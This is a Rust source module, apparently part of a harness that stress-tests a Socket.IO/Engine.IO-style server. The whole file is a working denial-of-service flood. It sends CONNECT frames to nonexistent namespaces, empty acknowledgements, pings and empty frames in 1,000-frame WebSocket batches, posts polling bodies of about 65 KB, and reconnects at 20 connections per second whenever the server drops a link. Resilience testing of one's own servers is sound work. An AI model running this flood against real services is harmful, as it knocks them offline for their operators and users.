//! The attack with frames that are no events: CONNECT to namespaces that there are not, acknowledgements of nothing,
//! pings, empty frames. One user sends them by WebSocket as fast as they go, and by polling in bodies as large as they
//! may be. A connection that the server ends is opened again, within a pace.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::time::{Instant, sleep};

use super::Target;
use super::wire::{self, Pace, Polling, TEXT, WebSocket};

/// Frames of each WebSocket: one kind alone, since the server may end the connection at the first of some kinds and
/// accept others for ever.
const SOCKETS: [&[&[u8]]; 4] = [&[b"40/x,"], &[b"40/x,"], &[b"43123[]"], &[b"2", b""]];
/// Sessions by polling.
const POLLERS: usize = 2;
/// Reconnects per second, of all connections together.
const RECONNECTS: u32 = 20;
/// Frames that are written at once.
const BATCH: usize = 1000;
/// Packets of one body: 65,399 bytes.
const PACKETS: usize = 10_900;

/// Attacks until it is dropped.
pub(crate) async fn run(target: Arc<Target>, _until: Instant) -> Vec<String> {
    let pace = Arc::new(Pace::per_second(RECONNECTS));
    let mut tasks = tokio::task::JoinSet::new();
    for kinds in SOCKETS {
        let (target, pace) = (target.clone(), pace.clone());
        tasks.spawn(async move {
            // Where there are several kinds, each connection has its turn of one.
            for kind in kinds.iter().cycle() {
                pace.turn().await;
                let ended = send(&target, kind).await;
                say_why(&target, &String::from_utf8_lossy(kind), ended);
            }
        });
    }
    for _ in 0..POLLERS {
        let (target, pace) = (target.clone(), pace.clone());
        tasks.spawn(async move {
            loop {
                pace.turn().await;
                let ended = post(&target).await;
                say_why(&target, "polling", ended);
            }
        });
    }
    tasks.join_all().await;
    Vec::new()
}

fn say_why(target: &Target, what: &str, ended: io::Result<()>) {
    let why = ended.map_or_else(|error| error.kind().to_string(), |()| "closed".into());
    target.tally.saw(format!("{what:?}: {why}"));
}

async fn send(target: &Target, kind: &[u8]) -> io::Result<()> {
    let socket = WebSocket::join(target.address, &target.token, &target.tally).await?;
    let batch = wire::frame(TEXT, kind).repeat(BATCH);
    let (from, mut to) = socket.stream.into_split();
    let writing = async {
        loop {
            to.write_all(&batch).await?;
            target.tally.frames(BATCH as u64);
        }
    };
    tokio::select! {
        ended = writing => ended,
        () = wire::drain(from) => Ok(()),
    }
}

async fn post(target: &Target) -> io::Result<()> {
    let mut polling = Polling::join(target.address, &target.token, &target.tally).await?;
    let mut poller = polling.beside(target.address, &target.tally).await?;
    let body = polling.packets(&vec!["40/x,"; PACKETS].join("\x1e"));
    let posting = async {
        loop {
            polling.post(&body).await?;
            target.tally.requests(1);
            target.tally.frames(PACKETS as u64);
        }
    };
    let polls = async {
        while poller.poll().await.is_ok() {}
        // The one that posts hears of the end too.
        sleep(Duration::from_secs(1)).await;
    };
    tokio::select! {
        ended = posting => ended,
        () = polls => Ok(()),
    }
}
